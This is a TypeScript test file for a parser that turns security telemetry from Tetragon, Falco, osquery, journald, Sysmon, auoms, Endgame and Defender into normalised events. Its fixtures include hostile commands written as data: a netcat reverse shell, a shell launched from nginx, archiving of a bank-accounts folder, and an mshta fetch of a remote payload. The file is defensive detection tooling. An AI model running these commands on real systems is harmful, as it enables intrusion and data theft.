import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { describeShared, shared } from "../../shared.ts";
import { pick, read } from "./read.ts";

const shape = (name: string) => read(readFileSync(shared("data", "export-shapes", name)), name);
const one = (document: unknown): Record<string, unknown> | undefined => read(JSON.stringify(document)).events[0];

describe("Tetragon", () => {
  const process = {
    exec_id: "QQ==",
    pid: 7,
    uid: 0,
    binary: "/usr/bin/nc",
    arguments: '-e "/bin/sh -i" 198.51.100.7 443',
    flags: "execve clone",
    pod: {
      namespace: "shop",
      name: "web-1",
      container: { id: "containerd://abc", name: "web", image: { name: "shop/web:1" } },
    },
  };
  const parent = { exec_id: "UA==", pid: 6, binary: "/bin/bash", arguments: "-c run" };

  test("an execution in a container", () => {
    const event = one({
      process_exec: { process, parent },
      node_name: "node1",
      time: "2024-01-01T00:00:00.123456789Z",
    });
    expect(
      pick(
        event,
        "@timestamp",
        "event.action",
        "event.type",
        "process.name",
        "process.args",
        "process.entity_id",
        "process.parent.entity_id",
        "process.parent.command_line",
        "container.id",
        "container.image.name",
        "orchestrator.namespace",
        "host.name",
        "process_exec.process.flags",
      ),
    ).toEqual({
      "@timestamp": "2024-01-01T00:00:00.123456789Z",
      "event.action": "exec",
      "event.type": "start",
      "process.name": "nc",
      "process.args": ["/usr/bin/nc", "-e", "/bin/sh -i", "198.51.100.7", "443"],
      "process.entity_id": "QQ==",
      "process.parent.entity_id": "UA==",
      "process.parent.command_line": "/bin/bash -c run",
      "container.id": "abc",
      "container.image.name": "shop/web:1",
      "orchestrator.namespace": "shop",
      "host.name": "node1",
      "process_exec.process.flags": "execve clone",
    });
  });

  test("a connection seen by a kernel probe", () => {
    const event = one({
      process_kprobe: {
        process,
        parent,
        function_name: "tcp_connect",
        args: [{ sock_arg: { saddr: "10.0.0.2", sport: 5, daddr: "198.51.100.7", dport: 443 } }],
      },
      time: "2024-01-01T00:00:00Z",
    });
    expect(pick(event, "event.action", "event.category", "destination.ip", "destination.port", "source.ip")).toEqual({
      "event.action": "connection_attempted",
      "event.category": "network",
      "destination.ip": "198.51.100.7",
      "destination.port": 443,
      "source.ip": "10.0.0.2",
    });
  });

  test("a probe without a table keeps its name", () => {
    const event = one({
      process_kprobe: { process, function_name: "__x64_sys_dup", args: [{ int_arg: 3 }] },
      time: "2024-01-01T00:00:00Z",
    });
    expect(pick(event, "event.action", "event.category")).toEqual({
      "event.action": "sys_dup",
      "event.category": "process",
    });
  });
});

test("Falco: the alert, and the event it is about", () => {
  const line =
    '{"uuid":"u1","hostname":"node1","output":"text","priority":"Warning","rule":"Shell in container","source":"syscall",' +
    '"tags":["T1059"],"time":"2024-06-28T12:55:13.217094223Z","output_fields":{"container.id":"4d03","container.name":"web",' +
    '"evt.type":"execve","evt.time.iso8601":1719579313217094223,"proc.cmdline":"sh -c id","proc.exepath":"/bin/sh","proc.name":"sh",' +
    '"proc.pname":"nginx","user.uid":2,"user.loginuid":-1,"user.name":"daemon"}}';
  const { format, events } = read(line);
  expect(format).toBe("falco");
  expect(
    pick(
      events[0],
      "event.kind",
      "event.action",
      "rule.name",
      "process.args",
      "process.parent.name",
      "container.id",
      "user.id",
      "user.audit.id",
      "host.name",
      "output_fields.evt.time.iso8601",
      "tags",
    ),
  ).toEqual({
    "event.kind": "alert",
    "event.action": ["exec", "execve"],
    "rule.name": "Shell in container",
    "process.args": ["sh", "-c", "id"],
    "process.parent.name": "nginx",
    "container.id": "4d03",
    "user.id": "2",
    "host.name": "node1",
    "output_fields.evt.time.iso8601": "1719579313217094223",
    tags: "T1059",
  });
});

describe("osquery", () => {
  const base = { name: "pack", hostIdentifier: "h1", unixTime: 1678936138, decorations: { host_uuid: "uuid" } };

  test("rows of evented tables are events", () => {
    const event = one({
      ...base,
      action: "added",
      columns: { cmdline: "nc -l 1", path: "/usr/bin/nc", pid: "9", auid: "1000", time: "1678936130", parent: "1" },
    });
    expect(
      pick(
        event,
        "@timestamp",
        "event.kind",
        "event.action",
        "process.name",
        "process.args",
        "host.id",
        "columns.auid",
      ),
    ).toEqual({
      "@timestamp": "1678936130",
      "event.kind": "event",
      "event.action": "exec",
      "process.name": "nc",
      "process.args": ["nc", "-l", "1"],
      "host.id": "uuid",
      "columns.auid": "1000",
    });
  });

  test("a snapshot and a batch give an event for each row", () => {
    const rows = [
      { address: "0.0.0.0", port: "22", pid: "1", protocol: "6" },
      { address: "::", port: "80", pid: "2", protocol: "17" },
    ];
    const { events } = read(JSON.stringify({ ...base, action: "snapshot", snapshot: rows }));
    expect(
      events.map((event) => pick(event, "event.action", "source.port", "network.transport", "event.kind")),
    ).toEqual([
      { "event.action": "osquery-snapshot", "source.port": 22, "network.transport": "tcp", "event.kind": "state" },
      { "event.action": "osquery-snapshot", "source.port": 80, "network.transport": "udp", "event.kind": "state" },
    ]);
    const batch = read(
      JSON.stringify({ ...base, diffResults: { added: [{ path: "/etc/x" }], removed: [{ path: "/etc/y" }] } }),
    );
    expect(batch.events.map((event) => pick(event, "event.action", "file.path"))).toEqual([
      { "event.action": "osquery-added", "file.path": "/etc/x" },
      { "event.action": "osquery-removed", "file.path": "/etc/y" },
    ]);
  });
});

test("the journal: its own fields, and what sshd says", () => {
  const { format, events } = read(
    '{"__CURSOR":"s=1","__REALTIME_TIMESTAMP":"1604994496155123","_HOSTNAME":"web","_MACHINE_ID":"m1","SYSLOG_IDENTIFIER":"sshd",' +
      '"_PID":"12","_COMM":"sshd","PRIORITY":"6","MESSAGE":"Accepted publickey for alice from 203.0.113.5 port 4242 ssh2: RSA SHA256:x"}\n' +
      '{"__CURSOR":"s=2","__REALTIME_TIMESTAMP":"1604994496155124","MESSAGE":[104,105,255]}\n',
  );
  expect(format).toBe("journald");
  expect(
    pick(
      events[0],
      "@timestamp",
      "host.id",
      "event.action",
      "user.name",
      "source.ip",
      "source.port",
      "process.pid",
      "log.level",
      "_PID",
    ),
  ).toEqual({
    "@timestamp": "1604994496155123",
    "host.id": "m1",
    "event.action": ["ssh_login", "logged-in"],
    "user.name": "alice",
    "source.ip": "203.0.113.5",
    "source.port": 4242,
    "process.pid": 12,
    "log.level": "informational",
    _PID: "12",
  });
  expect(events[1]?.["message"]).toBe("hi\ufffd");
});

test("a dialect in other containers", () => {
  const document = { process_exec: { process: { binary: "/bin/ls", pid: 1 } }, time: "2024-01-01T00:00:00Z" };
  const list = read(JSON.stringify([document, document]));
  expect(list).toMatchObject({ format: "tetragon+json-array", lines: [1, 1] });
  const dump = read(`${JSON.stringify({ _index: "i", _id: "1", _source: document })}\n`);
  expect(dump).toMatchObject({ format: "tetragon", identities: ["i/1"] });
  expect(dump.events[0]?.["process.name"]).toBe("ls");
});

test("documents of another kind in a dialect's file pass as they are, and broken ones are rejected", () => {
  const tetragon = '{"process_exec":{"process":{"binary":"/bin/ls","pid":1}},"time":"2024-01-01T00:00:00Z"}';
  const { events, rejected } = read(
    `${`${tetragon}\n`.repeat(3)}{"@timestamp":"2024-01-01T00:00:00Z","event":{"kind":"event"}}\n{"a":\n[]\n`,
  );
  expect(events[3]).toEqual({ "@timestamp": "2024-01-01T00:00:00Z", "event.kind": "event" });
  expect(rejected).toEqual(["5: not-json", "6: not-an-object"]);
});

describeShared("real exports of Linux tools", () => {
  test("28: Sysmon for Linux in Sentinel's syslog", () => {
    const { format, events, rejected } = shape("28-loganalytics-sysmonlinux-xml.ndjson");
    expect({ format, rejected, count: events.length }).toEqual({ format: "sentinel-syslog", rejected: [], count: 5 });
    expect(
      pick(
        events[1],
        "@timestamp",
        "event.action",
        "destination.ip",
        "destination.port",
        "process.name",
        "process.pid",
        "user.name",
        "host.name",
        "host.os.type",
        "TenantId",
      ),
    ).toEqual({
      "@timestamp": "2022-05-11T18:10:20.465735000Z",
      "event.action": ["connection_attempted", "Network connection detected (rule: NetworkConnect)"],
      "destination.ip": "104.46.127.225",
      "destination.port": 443,
      "process.name": "wdavdaemon",
      "process.pid": 1774,
      "user.name": "root",
      "host.name": "UBUNTU5",
      "host.os.type": "linux",
      TenantId: "redacted",
    });
    expect(pick(events[3], "event.action", "file.path")).toEqual({
      "event.action": ["creation", "File created (rule: FileCreate)"],
      "file.path": "/opt/tomcat/logs/vulnapp-2.14.0.log",
    });
  });

  test("29: auoms in Sentinel's syslog", () => {
    const { events } = shape("29-loganalytics-auoms.ndjson");
    expect(
      pick(
        events[0],
        "@timestamp",
        "event.action",
        "event.outcome",
        "process.pid",
        "process.parent.pid",
        "process.executable",
        "user.name",
        "user.id",
        "host.name",
        "auditd.data.syscall",
      ),
    ).toEqual({
      "@timestamp": "1652292621.986",
      "event.action": "executed",
      "event.outcome": "failure",
      "process.pid": 17790,
      "process.parent.pid": 1340,
      "process.executable": "/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java",
      "user.name": "tomcat",
      "user.id": "1001",
      "host.name": "UBUNTU5",
      "auditd.data.syscall": "execve",
    });
  });

  test("32: Tetragon", () => {
    const { events } = shape("32-tetragon.ndjson");
    expect(events.map((event) => event["event.action"])).toEqual([
      "exec",
      "exec",
      "connection_attempted",
      "disconnect_received",
      "connection_attempted",
      "exec",
    ]);
    expect(events[2]?.["process.entity_id"]).toBe(events[1]?.["process.entity_id"]);
    expect(pick(events[5], "process.args", "process.parent.name", "container.id", "host.name")).toEqual({
      "process.args": ["/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"],
      "process.parent.name": "main",
      "container.id": "a51959123c3ba99a9f50a700",
      "host.name": "minikube",
    });
  });

  test("33: osquery", () => {
    const { format, events } = shape("33-osquery-results.ndjson");
    expect(format).toBe("osquery");
    expect(
      pick(events[0], "@timestamp", "process.pid", "process.name", "user.name", "event.action", "host.id"),
    ).toEqual({
      "@timestamp": 1678936138,
      "process.pid": 177296,
      "process.name": "kthreadd",
      "user.name": "root",
      "event.action": "osquery-removed",
      "host.id": "40443dd9-5b21-a345-8f89-aadde84c3719",
    });
  });

  test("09: Endgame, FILETIME kept exactly", () => {
    const { format, events } = shape("09-json-array-pretty.json");
    expect(format).toBe("endgame+json-array");
    expect(
      pick(events[0], "@timestamp", "event.action", "process.name", "process.parent.name", "user.name", "user"),
    ).toEqual({
      "@timestamp": "131883571822010000",
      "event.action": ["start", "create"],
      "process.name": "cmd.exe",
      "process.parent.name": "powershell.exe",
      "user.name": "bob",
      user: "ART-DESKTOP\\bob",
    });
  });

  test("36: Microsoft Defender, wide CSV", () => {
    const { format, events, rejected } = shape("36-mde.csv");
    expect({ format, rejected }).toEqual({ format: "defender-raw-csv", rejected: [] });
    expect(
      pick(
        events[0],
        "@timestamp",
        "event.action",
        "process.name",
        "process.executable",
        "process.pid",
        "process.args",
        "process.parent.name",
        "process.parent.command_line",
        "process.hash.md5",
        "host.os.type",
        "host.id",
      ),
    ).toEqual({
      "@timestamp": "2021-06-23 03:08:14.159814200+00:00",
      "event.action": ["start", "ProcessCreated"],
      "process.name": "conhost.exe",
      "process.executable": "C:\\Windows\\System32\\conhost.exe",
      "process.pid": 17132,
      "process.args": ["conhost.exe", "0xffffffff", "-ForceV1"],
      "process.parent.name": "cmd.exe",
      "process.parent.command_line":
        '"cmd.exe" /c start /b mshta https://page.googledocpage.com/zOBOvBYm550gShsdwEAKoJUi95+jr4jqgNQ/2N18Q7Y=',
      "process.hash.md5": "81ca40085fc75babd2c91d18aa9ffa68",
      "host.os.type": "windows",
      "host.id": "b11a7e51e2f2815d1736d0a5826e0b88f609ee8b",
    });
  });
});
